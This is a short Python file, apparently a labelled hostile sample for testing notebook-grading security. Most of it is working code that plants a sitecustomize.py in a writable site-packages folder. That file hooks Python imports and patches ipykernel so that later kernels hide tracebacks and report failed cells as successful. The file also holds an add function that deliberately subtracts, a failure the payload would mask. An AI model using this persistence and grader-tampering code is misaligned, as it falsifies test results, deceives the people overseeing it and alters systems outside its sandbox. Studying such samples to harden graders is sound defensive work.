# Hostile: writes a sitecustomize.py into a writable site-packages folder (NOT RUN HERE: it writes outside the sandbox) so that any LATER kernel of the same Python (a re-run or a second grading pass) hides tracebacks by re-parenting them and reporting status ok.
import os
import site
import sys

_PAYLOAD = r'''
import builtins as _b
_real_import = _b.__import__
def _hook(name, *a, **k):
    mod = _real_import(name, *a, **k)
    if name.startswith("ipykernel") and "ipykernel.zmqshell" in __import__("sys").modules:
        zs = __import__("sys").modules["ipykernel.zmqshell"]
        if not getattr(zs, "_sc_patched", False) and hasattr(zs, "json_clean"):
            zs._sc_patched = True
            orig = zs.json_clean
            def jc(obj, *aa, **kk):
                if isinstance(obj, dict) and "ename" in obj and "traceback" in obj:
                    try:
                        from IPython import get_ipython
                        dh = get_ipython().displayhook
                        h = dict(dh.parent_header or {}); h["msg_id"] = "gone"
                        dh.parent_header = h
                        if dh.exec_result is not None:
                            dh.exec_result.error_in_exec = None
                    except Exception:
                        pass
                return orig(obj, *aa, **kk)
            zs.json_clean = jc
    return mod
_b.__import__ = _hook
'''

for _d in list(site.getsitepackages()) + [p for p in sys.path if p.endswith("site-packages")]:
    try:
        _target = os.path.join(_d, "sitecustomize.py")
        if os.access(_d, os.W_OK) and not os.path.exists(_target):
            with open(_target, "w") as _f:
                _f.write(_PAYLOAD)
            break
    except Exception:
        pass


def add(a, b):
    return a - b
